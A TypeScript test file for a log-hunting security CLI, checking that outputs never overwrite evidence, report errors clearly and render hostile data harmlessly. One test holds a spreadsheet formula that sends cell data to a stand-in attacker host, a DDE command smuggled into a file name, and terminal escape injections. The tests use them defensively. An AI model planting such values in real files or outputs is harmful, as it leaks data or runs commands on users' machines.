/**
 * Outputs never destroy evidence or an earlier result, and say clearly what went wrong:
 * `-o` onto an input, a hunt's own output inside an input folder, a failing run, exit codes.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { chmodSync, cpSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { cliPath, repoRoot, runCli } from './run-cli.js';
import { splitCsvRecords } from '../../src/sources/csv-records.js';

const fx = path.join(repoRoot, 'test', 'engine', 'fixtures');
const rules = ['--no-builtin', '--rules', path.join(fx, 'rules')];

function copyOfLogs(): string {
  const dir = mkdtempSync(path.join(tmpdir(), 'cellwatch-outputs-'));
  cpSync(path.join(fx, 'logs'), path.join(dir, 'logs'), { recursive: true });
  return dir;
}

function runWithEnv(args: string[], env: Record<string, string>): { code: number; stderr: string } {
  const r = spawnSync(process.execPath, [cliPath, ...args], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1', ...env } });
  return { code: r.status ?? -1, stderr: r.stderr };
}

test('hunt -o onto one of its inputs is refused with exit 2 and the input is untouched', () => {
  const dir = copyOfLogs();
  const input = path.join(dir, 'logs', 'web01-sysmon.jsonl');
  const before = readFileSync(input);
  for (const out of [input, path.join(dir, 'logs', '.', 'web01-sysmon.jsonl')]) {
    const r = runCli(['hunt', input, ...rules, '--format', 'jsonl', '-o', out]);
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, /is also an input .*refusing to overwrite evidence/);
    assert.equal(r.stderr.trim().split('\n').length, 1);
  }
  assert.deepEqual(readFileSync(input), before);
  // A rule file is an input too.
  const rule = path.join(dir, 'rule.yml');
  cpSync(path.join(fx, 'rules', 'rar_password.yml'), rule);
  assert.equal(runCli(['hunt', input, '--no-builtin', '--rules', rule, '-o', rule]).code, 2);
  assert.match(readFileSync(rule, 'utf8'), /^title: Test - RAR Archive With Password/);
});

test('a hunt never reads its own output inside an input folder, run after run', () => {
  const dir = copyOfLogs();
  const logs = path.join(dir, 'logs');
  const out = path.join(logs, 'findings.jsonl');
  const first = runCli(['hunt', logs, ...rules, '--format', 'jsonl', '-o', out]);
  assert.equal(first.code, 0, first.stderr);
  const firstText = readFileSync(out, 'utf8');
  assert.equal(firstText.trimEnd().split('\n').length, 5);
  const second = runCli(['hunt', logs, ...rules, '--format', 'jsonl', '-o', out]);
  assert.equal(second.code, 0, second.stderr);
  assert.match(second.stderr, /read\s+2 files/);
  assert.equal(readFileSync(out, 'utf8'), firstText);
  assert.deepEqual(readdirSync(logs).sort(), ['findings.jsonl', 'notes.bin', 'sub', 'web01-sysmon.jsonl']);
});

test('an internal error exits 70 with one line and a --debug hint; the earlier output survives', () => {
  const dir = copyOfLogs();
  const out = path.join(dir, 'findings.csv');
  writeFileSync(out, 'earlier,result\r\n');
  const args = ['hunt', path.join(dir, 'logs'), ...rules, '--format', 'csv', '-o', out, '-q'];
  const r = runWithEnv(args, { CELLWATCH_FAULT: 'sink-write' });
  assert.equal(r.code, 70, r.stderr);
  assert.equal(r.stderr.trim().split('\n').length, 1);
  assert.match(r.stderr, /^cellwatch: internal error: injected fault: sink-write .*rerun with --debug/);
  assert.equal(readFileSync(out, 'utf8'), 'earlier,result\r\n');
  assert.deepEqual(readdirSync(dir).sort(), ['findings.csv', 'logs']);
  for (const debugArgs of [['--debug', ...args], [...args, '--debug']]) {
    const d = runWithEnv(debugArgs, { CELLWATCH_FAULT: 'sink-write' });
    assert.equal(d.code, 70);
    assert.match(d.stderr, /\n\s+at .*output\.js:\d+/);
  }
  // Without the fault the same command replaces the earlier file.
  assert.equal(runWithEnv(args, {}).code, 0);
  assert.match(readFileSync(out, 'utf8'), /^ts,level,detector/);
});

test('an output that is a folder, or in a missing folder, is a usage error (exit 2), not a crash', () => {
  const dir = copyOfLogs();
  const logs = path.join(dir, 'logs');
  mkdirSync(path.join(dir, 'report.html'));
  const folder = runCli(['hunt', logs, ...rules, '--format', 'html', '-o', path.join(dir, 'report.html')]);
  assert.equal(folder.code, 2);
  assert.match(folder.stderr, /report\.html: is a folder/);
  const missing = runCli(['hunt', logs, ...rules, '-o', path.join(dir, 'no', 'such', 'out.txt')]);
  assert.equal(missing.code, 2);
  assert.match(missing.stderr, /out\.txt: cannot write: no such folder/);
  assert.doesNotMatch(missing.stderr + folder.stderr, /\n\s+at /);
});

test('audit, coverage and intel import refuse -o onto an input and write whole files', () => {
  const dir = mkdtempSync(path.join(tmpdir(), 'cellwatch-outputs-'));
  const kev = path.join(dir, 'kev.json');
  cpSync(path.join(repoRoot, 'examples', 'audit', 'kev-sample.json'), kev);
  const kevBefore = readFileSync(kev);
  const audit = runCli(['audit', path.join(repoRoot, 'examples', 'audit', 'exports'), '--kev', kev, '-o', kev]);
  assert.equal(audit.code, 2);
  assert.match(audit.stderr, /is also an input/);
  assert.deepEqual(readFileSync(kev), kevBefore);

  const indicators = path.join(dir, 'indicators.csv');
  cpSync(path.join(repoRoot, 'test', 'intel', 'fixtures', 'indicators.csv'), indicators);
  const intel = runCli(['intel', 'import', indicators, '-o', indicators]);
  assert.equal(intel.code, 2);
  assert.deepEqual(readFileSync(indicators), readFileSync(path.join(repoRoot, 'test', 'intel', 'fixtures', 'indicators.csv')));

  const layer = path.join(dir, 'layer.json');
  const coverage = runCli(['coverage', '--format', 'navigator', '--output', layer]);
  assert.equal(coverage.code, 0, coverage.stderr);
  assert.equal(JSON.parse(readFileSync(layer, 'utf8')).domain, 'enterprise-attack');
  assert.deepEqual(readdirSync(dir).sort(), ['indicators.csv', 'kev.json', 'layer.json']);
});

/** A Sysmon process event in evtx_dump JSON shape, with an attacker-chosen host name and command. */
function sysmonLine(computer: string, commandLine: string, time: string): string {
  return JSON.stringify({ Event: {
    System: { Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } }, EventID: 1, TimeCreated: { '#attributes': { SystemTime: time } }, EventRecordID: 7, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: computer },
    EventData: { Image: 'C:\\Program Files\\WinRAR\\rar.exe', CommandLine: commandLine, User: 'CORP\\svc' },
  } });
}

test('hunt csv, table and summary render hostile hosts, file names and commands harmlessly', () => {
  const dir = mkdtempSync(path.join(tmpdir(), 'cellwatch-outputs-'));
  const formulaHost = '=HYPERLINK("http://evil.example/?x="&A1,"WEB01")';
  const escHost = 'WEB02\x1b[2K\x1b[1A';
  writeFileSync(path.join(dir, '=cmd|calc!A0.jsonl'), `${sysmonLine(formulaHost, 'rar a -hpX c:\\t\\a.rar c:\\cdr', '2019-03-04T10:00:00.000Z')}\n`);
  writeFileSync(path.join(dir, 'esc.jsonl'), `${sysmonLine(escHost, 'rar a -hpY out.rar \x1b]0;pwned\x07 c:\\cdr', '2019-03-04T09:00:00.000Z')}\n`);

  // Run from inside the folder, so the file name is the start of source_path.
  const csv = runCli(['hunt', '.', ...rules, '--format', 'csv', '-q'], { cwd: dir });
  assert.equal(csv.code, 0, csv.stderr);
  const [header, ...records] = splitCsvRecords(csv.stdout, ',', 0, 1);
  assert.equal(records.length, 2);
  const cell = (name: string): string[] => records.map((r) => r.fields[header!.fields.indexOf(name)]!);
  assert.deepEqual(cell('host').sort(), [`'${formulaHost}`, escHost]);
  assert.deepEqual(cell('source_path').sort(), ["'=cmd|calc!A0.jsonl", 'esc.jsonl']);
  // The spreadsheet columns: Event ID, channel, user and the command line as details.
  assert.deepEqual(cell('event_id'), ['1', '1']);
  assert.deepEqual(cell('channel'), ['Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon/Operational']);
  assert.deepEqual(cell('user'), ['CORP\\svc', 'CORP\\svc']);
  assert.deepEqual(cell('details').sort(), ['rar a -hpX c:\\t\\a.rar c:\\cdr', 'rar a -hpY out.rar \x1b]0;pwned\x07 c:\\cdr']);

  const table = runCli(['hunt', dir, ...rules], { env: { COLUMNS: '240' } });
  assert.equal(table.code, 0, table.stderr);
  assert.doesNotMatch(table.stdout + table.stderr, /[\u001b\u0007\u009b]/);
  assert.match(table.stdout, /WEB02\\x1b\[2K/);
  assert.match(table.stdout, /\\x1b\]0;pwned\\x07/);
  assert.match(table.stderr, /WEB02\\x1b\[2K\\x1b\[1A/, 'the attack chain shows the first host');

  const jsonl = runCli(['hunt', dir, ...rules, '--format', 'jsonl', '-q']);
  assert.doesNotMatch(jsonl.stdout, /[\u001b\u0007]/);
  const hosts = jsonl.stdout.trimEnd().split('\n').map((l) => (JSON.parse(l) as { host: string }).host);
  assert.deepEqual(hosts.sort(), [formulaHost, escHost].sort());
});

test('audit --format csv writes the hunt csv columns through the shared writer, one row per finding', () => {
  const base = ['audit', 'examples/audit/exports', '--kev', 'examples/audit/kev-sample.json', '--as-of', '2026-11-28', '--no-coverage'];
  const jsonl = runCli([...base, '--format', 'jsonl']);
  const csv = runCli([...base, '--format', 'csv']);
  assert.equal(csv.code, 0, csv.stderr);
  const findings = jsonl.stdout.trimEnd().split('\n').map((l) => JSON.parse(l) as { rule: { id: string }; host: string });
  const [header, ...records] = splitCsvRecords(csv.stdout, ',', 0, 1);
  assert.equal(header!.fields.join(','), 'ts,level,detector,rule_id,rule_title,attack,host,source_path,source_record,source_format,matched,event_id,channel,user,details');
  assert.equal(records.length, findings.length);
  assert.ok(records.length > 10);
  assert.deepEqual(records.map((r) => r.fields[3]), findings.map((f) => f.rule.id));
  assert.ok(records.every((r) => r.fields[2] === 'audit' && r.fields.length === 15));
});

test('a full disk is reported (exit 2, naming the output), never a silent success', { skip: existsSync('/dev/full') ? false : 'no /dev/full on this system' }, () => {
  const logs = path.join(fx, 'logs');
  for (const format of ['table', 'jsonl', 'csv', 'html', 'timeline', 'navigator']) {
    const r = runCli(['hunt', logs, ...rules, '--format', format, '-o', '/dev/full', '-q']);
    assert.equal(r.code, 2, `${format}: ${r.stderr}`);
    assert.equal(r.stderr, 'cellwatch: /dev/full: cannot write: no space left on device\n', format);
  }
  const coverage = runCli(['coverage', '--output', '/dev/full']);
  assert.equal(coverage.code, 2);
  assert.match(coverage.stderr, /\/dev\/full: cannot write: no space left on device/);
});

test('a replaced output keeps its permissions; a symlinked output is replaced behind the link', () => {
  const dir = copyOfLogs();
  const logs = path.join(dir, 'logs');
  const out = path.join(dir, 'private.jsonl');
  writeFileSync(out, 'earlier\n');
  chmodSync(out, 0o600);
  assert.equal(runCli(['hunt', logs, ...rules, '--format', 'jsonl', '-o', out, '-q']).code, 0);
  assert.equal(statSync(out).mode & 0o777, 0o600);
  assert.equal(readFileSync(out, 'utf8').trimEnd().split('\n').length, 5);

  const link = path.join(dir, 'latest.jsonl');
  symlinkSync(out, link);
  assert.equal(runCli(['hunt', logs, ...rules, '--format', 'csv', '-o', link, '-q']).code, 0);
  assert.ok(lstatSync(link).isSymbolicLink());
  assert.match(readFileSync(out, 'utf8'), /^ts,level,detector/);
  // The link target is an input: refused through the link too.
  assert.equal(runCli(['hunt', out, ...rules, '-o', link, '-q']).code, 2);
});
